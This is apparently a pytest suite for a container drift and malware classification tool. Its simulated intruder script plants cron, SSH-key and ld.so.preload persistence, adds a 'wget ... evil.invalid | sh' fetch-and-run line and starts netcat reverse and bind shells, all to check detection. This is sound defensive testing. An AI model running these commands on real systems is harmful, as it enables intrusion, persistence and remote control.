"""Classification of a real container's kill chain, on the real engine, libmagic and YARA.

The image (FROM scratch: busybox, our memfd helper, a harmless miner look-alike compiled
here, a minimal dpkg database written here) is drifted by the steps an intruder takes;
each trace must get its tags, ATT&CK id and severity, and the growing app log stays low.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import drifttools
from drifttools import ClassifyOptions, LayerCache, Severity
from drifttools.options import BaselineOptions
from tests.command import EXE
from tests.engine import Engine, build_memfd_image, compile_c, docker, unique
from tests.reports import assert_valid_report

HERE = Path(__file__).parent
TOOL = b"#!/bin/sh\necho tool\n"

DOCKERFILE = """\
FROM scratch
COPY busybox /bin/busybox
COPY memfd_exec /bin/memfd_exec
COPY miner /opt/stage/payload
COPY dpkg /var/lib/dpkg
COPY tool /usr/bin/tool
RUN ["/bin/busybox", "--install", "-s", "/bin"]
RUN mkdir -p /tmp /root /var/log /opt/app /etc \\
 && echo "root:x:0:0::/root:/bin/sh" > /etc/passwd \\
 && echo "setting=1" > /opt/app/config.txt && echo 'echo helper' > /opt/app/helper \\
 && chmod 755 /opt/app/helper && cp /bin/busybox /opt/app/extra \\
 && printf '#!/bin/sh\\nexec sleep 100000\\n' > /entrypoint.sh && chmod 755 /entrypoint.sh
EXPOSE 8080/tcp
CMD ["/entrypoint.sh"]
"""

#: The intruder's steps, run with `docker exec` (the test drifts; drifttools never execs).
KILL_CHAIN = r"""
set -e
cp /opt/stage/payload /tmp/kworkerd && chmod 755 /tmp/kworkerd
cp /opt/stage/payload /dev/shm/.x && chmod 755 /dev/shm/.x
mkdir -p /etc/crontabs && echo '* * * * * /tmp/kworkerd' > /etc/crontabs/root
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q mdrfckr' \
  > /root/.ssh/authorized_keys
echo /tmp/.lib/libx.so > /etc/ld.so.preload
echo 'wget -q -O- http://evil.invalid/x | sh' >> /entrypoint.sh
sed -i 's/^Version: 1.0$/Version: 0.9/' /var/lib/dpkg/status
echo 'echo trojan' >> /usr/bin/tool
touch -r /opt/app/config.txt /tmp/ref && echo 'setting=2' > /opt/app/config.txt
touch -r /tmp/ref /opt/app/config.txt && rm /tmp/ref
chmod 4755 /opt/app/helper
rm /opt/app/extra
echo 'GET / 200' >> /var/log/app.log
setsid /tmp/kworkerd </dev/null >/dev/null 2>&1 &
cp /opt/stage/payload /tmp/gone && chmod 755 /tmp/gone
setsid /tmp/gone </dev/null >/dev/null 2>&1 &
setsid memfd_exec /opt/stage/payload payload </dev/null >/dev/null 2>&1 &
(sleep 100000 | setsid nc -l -p 4444 >/dev/null 2>&1) &
sleep 0.3
setsid nc 127.0.0.1 4444 -e /bin/sh </dev/null >/dev/null 2>&1 &
setsid nc -ll -p 5555 -e /bin/sh </dev/null >/dev/null 2>&1 &
(sleep 100000 | setsid nc -l -p 8080 >/dev/null 2>&1) &
sleep 0.3
rm /tmp/gone
echo 'GET /health 200' >> /var/log/app.log
"""


@pytest.fixture(scope="module")
def chain_image(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    context = tmp_path_factory.mktemp("classify-image") / "context"
    context.mkdir()
    compile_c(HERE / "miner.c", context / "miner", "-static")
    (context / "tool").write_bytes(TOOL)
    (context / "tool").chmod(0o755)
    info = context / "dpkg" / "info"
    info.mkdir(parents=True)
    (context / "dpkg" / "status").write_text(
        "Package: tool\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\n\n"
        "Package: base-files\nStatus: install ok installed\nArchitecture: all\n"
        "Version: 13\nConffiles:\n /etc/passwd 0123\n"
    )
    (info / "tool.md5sums").write_text(f"{hashlib.md5(TOOL).hexdigest()}  usr/bin/tool\n")
    tag = f"{unique('drifttools-classify')}:1"
    build_memfd_image(tag, context, DOCKERFILE)
    yield {"tag": tag}
    docker("rmi", "-f", tag, check=False)


@pytest.fixture(scope="module")
def attacked(chain_image: dict) -> Iterator[dict]:
    name = unique("drifttools-classify")
    docker("run", "-d", "--name", name, chain_image["tag"])
    try:
        docker("exec", name, "sh", "-c", KILL_CHAIN)
        yield {"name": name}
    finally:
        docker("rm", "-f", name, check=False)


@pytest.fixture(scope="module")
def report(attacked: dict, tmp_path_factory: pytest.TempPathFactory) -> drifttools.DriftReport:
    cache = LayerCache(tmp_path_factory.mktemp("cache"))
    deadline = time.monotonic() + 20
    while True:
        found = drifttools.diff(attacked["name"], baseline=BaselineOptions(cache=cache))
        shells = [p for p in found.processes if "reverse-shell" in p.tags]
        if shells or time.monotonic() > deadline:
            return found
        time.sleep(0.3)


def _change(report: drifttools.DriftReport, path: str) -> drifttools.Change:
    return next(c for c in report.changes if c.path == path)


#: path -> (tags it must have, ATT&CK id, severity)
EXPECTED = {
    "/tmp/kworkerd": (
        {"executable", "elf", "static", "suspicious-location", "yara", "miner"},
        "T1105",
        Severity.CRITICAL,
    ),
    "/dev/shm/.x": (
        {"executable", "suspicious-location", "hidden", "miner"},
        "T1105",
        Severity.CRITICAL,
    ),
    "/etc/crontabs/root": ({"persistence", "cron"}, "T1053.003", Severity.HIGH),
    "/root/.ssh/authorized_keys": (
        {"persistence", "authorized-keys", "yara", "ssh"},
        "T1098.004",
        Severity.CRITICAL,
    ),
    "/etc/ld.so.preload": (
        {"persistence", "ld-preload", "rootkit"},
        "T1574.006",
        Severity.CRITICAL,
    ),
    "/entrypoint.sh": (
        {"persistence", "entrypoint", "script", "executable"},
        "T1037",
        Severity.HIGH,
    ),
    "/var/lib/dpkg/status": ({"package-db"}, "T1565.001", Severity.MEDIUM),
    "/usr/bin/tool": ({"package-file-modified", "script"}, "T1554", Severity.HIGH),
    "/opt/app/config.txt": ({"timestomp"}, "T1070.006", Severity.HIGH),
    "/opt/app/helper": ({"setuid"}, "T1548.001", Severity.HIGH),
    "/opt/app/extra": ({"deleted-binary"}, "T1070.004", Severity.MEDIUM),
}


def test_each_trace_gets_its_tags_attack_and_severity(report: drifttools.DriftReport) -> None:
    for path, (tags, attack, severity) in EXPECTED.items():
        change = _change(report, path)
        assert tags <= set(change.tags), (path, change.tags)
        assert attack in change.attack, (path, change.attack)
        assert change.severity is severity, (path, change.severity, change.findings)
        assert change.findings and change.findings[0].severity.rank >= Severity.MEDIUM.rank


def test_the_app_log_stays_low(report: drifttools.DriftReport) -> None:
    log = _change(report, "/var/log/app.log")
    assert log.severity is Severity.LOW and "expected" in log.tags
    assert log.findings == () and log.attack == ()
    assert log.magic is not None and "text" in log.magic


def test_file_facts_magic_and_yara(report: drifttools.DriftReport) -> None:
    miner = _change(report, "/tmp/kworkerd")
    assert miner.magic is not None and miner.magic.startswith("ELF 64-bit")
    elf = miner.content["elf"]
    assert (elf["class"], elf["linking"], elf["interpreter"]) == ("ELF64", "static", None)
    assert {m["rule"] for m in miner.yara} == {"xmrig_miner", "stratum_pool_url"}
    assert all(m["strings"] for m in miner.yara)
    assert _change(report, "/entrypoint.sh").content["shebang"] == "/bin/sh"
    assert "unowned" in _change(report, "/tmp/kworkerd").tags
    assert "unowned" not in _change(report, "/usr/bin/tool").tags


def test_packages_drift(report: drifttools.DriftReport) -> None:
    entries = {(p.manager, p.name, p.change): p for p in report.packages}
    downgrade = entries[("dpkg", "tool", "downgraded")]
    assert (downgrade.before, downgrade.after, downgrade.architecture) == ("1.0", "0.9", "amd64")
    assert downgrade.mismatched == ("/usr/bin/tool",)
    assert downgrade.purl == "pkg:deb/debian/tool@0.9?arch=amd64"


def _by_exe(report: drifttools.DriftReport) -> dict[str, drifttools.ProcessRecord]:
    return {p.exe or "": p for p in report.processes}


def test_processes_are_classified(report: drifttools.DriftReport) -> None:
    procs = _by_exe(report)
    dropped = procs["/tmp/kworkerd"]
    assert "exe-not-in-image" in dropped.tags and "T1105" in dropped.attack
    assert {m["rule"] for m in dropped.yara} == {"xmrig_miner", "stratum_pool_url"}
    assert dropped.severity is Severity.CRITICAL and dropped.magic.startswith("ELF 64-bit")
    deleted = procs["/tmp/gone"]
    assert deleted.exe_state == "deleted" and "T1070.004" in deleted.attack
    assert {m["rule"] for m in deleted.yara} == {"xmrig_miner", "stratum_pool_url"}
    memfd = procs["/memfd:payload"]
    assert "T1620" in memfd.attack and memfd.severity is Severity.CRITICAL
    assert memfd.yara, "a memfd executable is scanned through /proc/<pid>/exe"
    [shell] = [p for p in report.processes if "reverse-shell" in p.tags]
    assert "T1059.004" in shell.attack and shell.severity is Severity.CRITICAL
    listening = {
        s.local.rsplit(":", 1)[1]: p
        for p in report.processes
        for s in p.sockets
        if s.state == "LISTEN"
    }
    assert "undeclared-listener" in listening["5555"].tags and "T1571" in listening["5555"].attack
    assert "undeclared-listener" not in listening["8080"].tags  # EXPOSE 8080/tcp
    main = next(p for p in report.processes if p.ns_pid == 1)
    assert main.severity is Severity.INFO and main.findings == ()


def test_report_validates_and_counts_by_severity(report: drifttools.DriftReport) -> None:
    document = report.to_dict()
    assert_valid_report(document)
    by_severity = document["summary"]["by_severity"]
    assert sum(by_severity.values()) == len(report.changes)
    assert by_severity["critical"] >= 4 and by_severity["low"] >= 1
    yara = document["classification"]["yara"]
    assert yara["engine"] == "yara-x" and yara["problems"] == [] and yara["rules"] >= 16
    assert document["classification"]["start_scripts"] == ["/entrypoint.sh"]
    assert report.highest_severity is Severity.CRITICAL


def test_yara_python_engine_gives_the_same_matches(
    attacked: dict, report: drifttools.DriftReport, tmp_path: Path
) -> None:
    other = drifttools.diff(
        attacked["name"],
        classification=ClassifyOptions(yara_engine="yara-python"),
        baseline=BaselineOptions(cache=LayerCache(tmp_path)),
    )
    for change in report.changes:
        if change.yara:
            assert _change(other, change.path).yara == change.yara, change.path
    assert other.classification["yara"]["engine"] == "yara-python"


def test_cli_fail_on_allow_and_broken_rules(attacked: dict, tmp_path: Path) -> None:
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path)}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [EXE, "diff", attacked["name"], *args], capture_output=True, text=True, env=env
        )

    gate = run("--fail-on", "critical", "--format", "json")
    assert gate.returncode == 1, gate.stderr
    assert_valid_report(json.loads(gate.stdout))
    allow = tmp_path / "allow.txt"
    allow.write_text("# everything this test drifted\n/**\n")
    quiet = run("--fail-on", "high", "--allow", str(allow), "--no-yara", "--format", "json")
    document = json.loads(quiet.stdout)
    # path-based findings are capped by the allowlist; process evidence is not
    assert all(c["severity"] in ("info", "low") for c in document["changes"])
    assert quiet.returncode == 1
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "mine.yar").write_text(
        'rule ok_rule { strings: $a = "kworkerd" condition: $a }\n'
        "rule bad_rule { condition: $missing }\n"
    )
    table = run("--rules", str(rules))
    assert table.returncode == 1
    summary, warning = [line for line in table.stderr.splitlines() if line]
    assert "1 rules compiled, 1 rejected" in summary and str(rules) in summary
    assert "bad_rule" in warning and "mine.yar" in warning
    assert "critical" in table.stdout and "T1105" in table.stdout
    (rules / "mine.yar").write_text("rule bad_rule { condition: $missing }\n")
    broken = subprocess.run(
        [EXE, "diff", attacked["name"], "--rules", str(rules), "--yara-engine", "yara-python"],
        capture_output=True,
        text=True,
        env=env,
    )
    assert broken.returncode == 1  # the bundled rules still compile: not trouble
